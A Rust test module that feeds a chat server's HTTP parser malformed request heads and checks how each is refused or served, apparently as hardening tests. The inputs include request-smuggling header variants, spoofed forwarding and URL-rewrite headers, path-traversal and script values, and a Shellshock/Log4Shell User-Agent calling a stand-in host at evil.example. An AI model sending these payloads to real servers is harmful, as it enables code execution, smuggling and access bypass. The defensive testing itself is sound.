//! Heads: lines, names, values and hosts that two programs may read in two ways.

use super::attack::{Attack, Due};

const LINE: &str = "GET /v1/history?with=bob&token=mallory HTTP/1.1";

/// A head whose first line is this.
fn line(line: &str) -> Attack {
    Attack::raw(format!(
        "{line}\r\nHost: chat.example\r\nConnection: close\r\n\r\n"
    ))
}

/// A head with these fields behind the usual ones.
fn with(fields: &str) -> Attack {
    Attack::raw(format!(
        "{LINE}\r\nHost: chat.example\r\nConnection: close\r\n{fields}\r\n\r\n"
    ))
}

pub(super) fn attacks() -> Vec<Attack> {
    [lines(), targets(), fields(), hosts(), sizes(), stopped()].concat()
}

/// First lines that are none.
const LINES: [&str; 30] = [
    "GET /healthz",
    "GET",
    "/healthz",
    "GET/healthz HTTP/1.1",
    "GET  /healthz HTTP/1.1",
    "GET /healthz  HTTP/1.1",
    "GET /healthz HTTP/1.1 ",
    " GET /healthz HTTP/1.1",
    "GET\t/healthz HTTP/1.1",
    "GET /healthz\tHTTP/1.1",
    "GET /health z HTTP/1.1",
    "GET /healthz HTTP/1.1 HTTP/1.1",
    "GET /healthz HTTP/0.9",
    "GET /healthz HTTP/1.2",
    "GET /healthz HTTP/2.0",
    "GET /healthz HTTP/2",
    "GET /healthz HTTP/9.9",
    "GET /healthz HTTP/1.10",
    "GET /healthz http/1.1",
    "GET /healthz HTTP/01.1",
    "GET /healthz HTTPS/1.1",
    "GET /healthz ICY/1.1",
    "GET /health\0z HTTP/1.1",
    "GET /healthz\0 HTTP/1.1",
    "G\0ET /healthz HTTP/1.1",
    "GET /healthz\r HTTP/1.1",
    "G(E)T /healthz HTTP/1.1",
    "G\u{e9}T /healthz HTTP/1.1",
    "\u{feff}GET /healthz HTTP/1.1",
    "GET /health\u{1b}z HTTP/1.1",
];

fn lines() -> Vec<Attack> {
    // The document is asked about the path, where one can be made out.
    let refused = LINES
        .iter()
        .map(|words| line(words).then("GET /", Due::Problem(400, "bad_request")));
    let others = [
        "\x16\x03\x01\x02\x00\x01\x00\x01\x7c\x03\x03",
        "SSH-2.0-x",
        "HELO chat.example",
        "\0\0\0\0",
        "{\"to\":\"bob\"}",
    ];
    let others = others.iter().map(|words| {
        let attack = Attack::raw(format!("{words}\r\n\r\n"));
        attack.then("GET /", Due::Problem(400, "bad_request"))
    });
    refused.chain(others).collect()
}

/// Targets that are no plain path.
fn targets() -> Vec<Attack> {
    let served = "GET /v1/history?with=bob";
    vec![
        // A proxy's form, whatever host it names: the path counts.
        line("GET http://evil.example/v1/history?with=bob&token=mallory HTTP/1.1")
            .then(served, Due::Served),
        line("GET https://a:b@evil.example:1/v1/history?with=bob&token=mallory HTTP/1.1")
            .then(served, Due::Served),
        line("GET gopher://evil.example/healthz HTTP/1.1").then("GET /healthz", Due::Served),
        line("GET http:///healthz HTTP/1.1").then("GET /", Due::Plain(400)),
        line("GET http://[::1 HTTP/1.1").then("GET /", Due::Plain(400)),
        line("GET //evil.example/healthz HTTP/1.1").absent(),
        line("GET healthz HTTP/1.1").absent(),
        line("GET * HTTP/1.1").absent(),
        line("OPTIONS * HTTP/1.1").then("GET *", Due::Problem(404, "not_found")),
        line("CONNECT evil.example:443 HTTP/1.1").absent(),
        line("CONNECT /healthz HTTP/1.1").is(Due::Problem(405, "method_not_allowed")),
        line("PRI * HTTP/1.1").absent(),
        line("GET ?with=bob HTTP/1.1").then("GET /nothing", Due::Plain(400)),
        line("GET #/healthz HTTP/1.1").then("GET /nothing", Due::Plain(400)),
        line("GET /healthz\\..\\x HTTP/1.1").absent(),
        line("GET /healthz#/v1/history HTTP/1.1").then("GET /healthz", Due::Served),
        line("GET /healthz?<script>\"' HTTP/1.1").then("GET /healthz", Due::Plain(400)),
        line("GET /{healthz} HTTP/1.1").absent(),
        line("GET /v1/{*path} HTTP/1.1").absent(),
        line("GET /caf\u{e9} HTTP/1.1").absent(),
    ]
}

/// Fields that no parser should let pass.
const BROKEN: [&str; 26] = [
    // Space where none may be: one program sees a field there and another does not.
    "Content-Length : 5",
    "Content-Length\t: 5",
    "Transfer-Encoding : chunked",
    " Content-Length: 5",
    "X: y\r\n Content-Length: 5",
    "X: y\r\n\tfolded",
    "X: y\r\n ",
    "Content Length: 5",
    "\tX: y",
    // Names that are none.
    ": y",
    "X",
    "X y",
    "X(: y",
    "\"X\": y",
    "X\0: y",
    "X\u{e9}: y",
    "[X]: y",
    "X/Y: z",
    "X@Y: z",
    // What ends a line for some, or a text.
    "X: a\rContent-Length: 5",
    "X: a\0b",
    "X: a\x0bb",
    "X: a\x7fb",
    "X: a\x1bb",
    "X\r: y",
    "X: \r",
];

fn fields() -> Vec<Attack> {
    let broken = BROKEN.iter().map(|fields| with(fields).refused());
    let borne = [
        // Names and values that mean something elsewhere.
        "X-Forwarded-For: 127.0.0.1",
        "X-Forwarded-User: alice",
        "X-Original-URL: /v1/history?with=alice&token=bob",
        "X-Rewrite-URL: /v1/history?with=alice&token=bob",
        "Forwarded: for=alice;host=evil.example",
        "X-User: alice",
        "X_Chut_Token: alice",
        "X-Chut-User: alice",
        "Content_Length: 5",
        "Transfer_Encoding: chunked",
        "Proxy: evil.example",
        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        "Upgrade: websocket\r\nSec-WebSocket-Version: 13",
        "Connection: X-Chut-Token, Cookie",
        "Connection: keep-alive, close",
        "TE: trailers, chunked",
        "Trailer: Content-Length",
        "Range: bytes=0-1,1-2,2-3",
        "If-None-Match: *",
        "Accept: \u{e9}\u{ff}",
        "Accept-Encoding: br;q=nan, gzip;q=-1, *;q=1e999",
        "User-Agent: () { :;}; echo ${jndi:ldap://evil.example/x}",
        "Content-Length: 0",
        "Host2: evil.example",
    ];
    let borne = borne.iter().map(|fields| with(fields).is(Due::Served));
    // A line may end without its carriage return; nothing else ends one.
    let lone = format!("{LINE}\nHost: chat.example\nConnection: close\n\n");
    let lone = Attack::raw(lone).is(Due::Served);
    let empty = Attack::raw(format!(
        "\r\n\r\n\n{LINE}\r\nHost: chat.example\r\nConnection: close\r\n\r\n"
    ));
    broken
        .chain(borne)
        .chain([lone, empty.then(LINE, Due::Served)])
        .collect()
}

fn hosts() -> Vec<Attack> {
    let host = |fields: &str| Attack::raw(format!("{LINE}\r\nConnection: close\r\n{fields}\r\n"));
    let none_or_two = [
        "",
        "Host: a\r\nHost: b\r\n",
        "Host: chat.example\r\nhOsT: chat.example\r\n",
        "Host : chat.example\r\n",
        " Host: chat.example\r\n",
        "Host: a\r\n b\r\n",
        "Host: a\0b\r\n",
        "Host2: chat.example\r\n",
    ];
    // It decides nothing here but whose origin may post.
    let odd = [
        "Host:\r\n",
        "Host: a b\r\n",
        "Host: a, b\r\n",
        "Host: http://evil.example/\r\n",
        "Host: evil.example@chat.example\r\n",
        "Host: [::1\r\n",
        "Host: chat.example:99999\r\n",
        "Host: ../../etc\r\n",
        "Host: <script>\r\n",
        "Host: \u{e9}\r\n",
    ];
    let refused = none_or_two.iter().map(|fields| host(fields).refused());
    refused
        .chain(odd.iter().map(|fields| host(fields).is(Due::Served)))
        .collect()
}

fn sizes() -> Vec<Attack> {
    let large = |status| Due::Problem(status, "too_large");
    let long = "x".repeat(70_000);
    vec![
        line(&format!("GET /{} HTTP/1.1", "x".repeat(33_000))).absent(),
        line(&format!("GET /healthz?{} HTTP/1.1", "x".repeat(33_000)))
            .then("GET /healthz", Due::Served),
        line(&format!("GET /v1/history?{} HTTP/1.1", "&".repeat(33_000))).is(large(414)),
        Attack::raw(format!("GET /{long}")).then("GET /", large(414)),
        Attack::raw(long.clone()).then("GET /", large(414)),
        with(&format!("X: {long}")).is(large(431)),
        with(&format!("{long}: x")).is(large(431)),
        with(&format!("Cookie: {}", "a=b; ".repeat(14_000))).is(large(431)),
        with(&"X: y\r\n".repeat(99)).is(large(431)),
        with("").is(Due::Served),
        with(&format!("X:{}y", " ".repeat(60_000))).is(Due::Served),
    ]
}

/// Heads that never end, by peers that say so.
fn stopped() -> Vec<Attack> {
    let parts = [
        "G",
        "GET ",
        "GET /healthz",
        "GET /healthz HTTP/1.1",
        "GET /healthz HTTP/1.1\r\nHost: a\r\n",
        "\r\n\r\n\r\n",
        "PRI * HT",
    ];
    parts
        .iter()
        .map(|part| Attack::raw(*part).and_stops())
        .collect()
}
